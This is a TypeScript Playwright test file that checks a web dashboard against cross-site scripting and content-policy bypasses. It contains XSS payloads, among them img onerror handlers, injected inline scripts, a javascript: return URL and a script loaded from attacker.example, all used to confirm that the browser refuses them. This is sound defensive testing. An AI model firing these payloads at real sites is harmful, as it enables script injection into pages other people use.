import type { Page } from "@playwright/test";
import { sql } from "../../db/client.ts";
import { newDatabase } from "../database.ts";
import { signedInPerson } from "../person.ts";
import { startProcesses } from "../processes.ts";
import { suite } from "../suite.ts";
import { type Sighting, strangers, watchedPage } from "./browser.ts";
import { hostileDocuments } from "./hostile-documents.ts";
import { pages } from "./pages.ts";
import { Tally } from "./tally.ts";

const visit = async (page: Page, sighting: Sighting, path: string): Promise<string[]> => {
  const [violations, ran] = [sighting.violations.length, sighting.ran.length];
  const response = await page.goto(path, { waitUntil: "load" });
  await page.waitForLoadState("networkidle", { timeout: 8_000 }).catch(() => undefined);
  const status = response?.status() ?? 0;
  return [
    ...(status >= 500 ? [`${path}: ${status}`] : []),
    ...(await strangers(page)).map((what) => `${path}: ${what}`),
    ...sighting.violations.slice(violations),
    ...sighting.ran.slice(ran),
  ];
};

/** What a stranger would do if a text became markup: each has to be refused, and the refusal seen. */
const ATTACKS: readonly [what: string, attack: () => void][] = [
  [
    "HTML from text",
    () => document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.hacked=1'>"),
  ],
  [
    "an inline script",
    () => {
      const script = document.createElement("script");
      script.textContent = "window.hacked = 1";
      document.body.append(script);
    },
  ],
  [
    "a script of another origin",
    () => {
      const script = document.createElement("script");
      script.src = "https://attacker.example/x.js";
      document.body.append(script);
    },
  ],
  // After a while: what the driver of the browser runs itself may do so.
  ["code from text", () => void setTimeout(() => new Function("window.hacked = 1")(), 10)],
  ["a request elsewhere", () => void fetch("https://attacker.example/").catch(() => undefined)],
  [
    "a picture elsewhere",
    () => {
      new Image().src = "https://attacker.example/p.png";
    },
  ],
];

const attack = async (page: Page, sighting: Sighting, tally: Tally): Promise<void> => {
  for (const [what, deed] of ATTACKS) {
    await page.goto("/settings");
    const before = sighting.violations.length;
    await page.evaluate(deed).catch(() => undefined);
    await page.waitForTimeout(150);
    const hacked = (await strangers(page)).some((each) => each.includes("ran"));
    tally.add(hacked ? `${what} ran` : null);
    tally.planted(what, sighting.violations.length > before);
  }
};

export const xss = suite({
  about:
    "what scanners write stays text on every page in a real browser; no page breaks its own policy; planted scripts do",
  long: { n: "60" },
  quick: { n: "2" },
  async run({ n }, say) {
    const database = await newDatabase({ durable: false });
    const { url } = await startProcesses(database);
    const { headers } = await signedInPerson(url);
    const documents = await hostileDocuments();
    const { page, sighting } = await watchedPage(url, headers.cookie!);
    const tally = new Tally();
    const findings = await sql<{ id: number }>`select id from finding order by id limit ${Number(n)}`;
    const assets = await sql<{
      id: number;
      kind: string;
    }>`select id, key as kind from asset order by id limit ${Number(n)}`;
    const paths = [
      ...(await pages()),
      ...findings.map(({ id }) => `/findings/${id}`),
      ...findings.map(({ id }) => `/findings?finding=${id}`),
      ...assets.map(({ id }) => `/inventory/images/${id}`),
      "/findings?q=%3Cscript%3Ewindow.hacked%3D1%3C/script%3E",
      "/sign-in?return=javascript:window.hacked%3D1&error=%3Cimg%20src%3Dx%20onerror%3Dwindow.hacked%3D1%3E",
      "/welcome#%3Cimg%20src=x%20onerror=window.hacked=1%3E",
    ];
    for (const path of paths) tally.all(await visit(page, sighting, path));
    say(`xss: ${paths.length} pages, ${documents} hostile documents`);
    // Going from page to page without a reload loads chunks by script elements, which Trusted Types watch.
    const before = sighting.violations.length;
    await page.goto("/");
    for (const href of ["/findings", "/inventory", "/compliance", "/collectors", "/audit", "/settings"]) {
      await page
        .locator(`nav a[href^="${href}"]`)
        .first()
        .click({ timeout: 5_000 })
        .catch(() => undefined);
      await page.waitForLoadState("networkidle", { timeout: 5_000 }).catch(() => undefined);
    }
    await page.keyboard.press("Control+k");
    await page.keyboard.type("<img src=x onerror=window.hacked=1>");
    await page.waitForTimeout(500);
    tally.all([...(await strangers(page)), ...sighting.violations.slice(before)]);
    await attack(page, sighting, tally);
    return tally.verdict({ pages: paths.length, documents });
  },
});
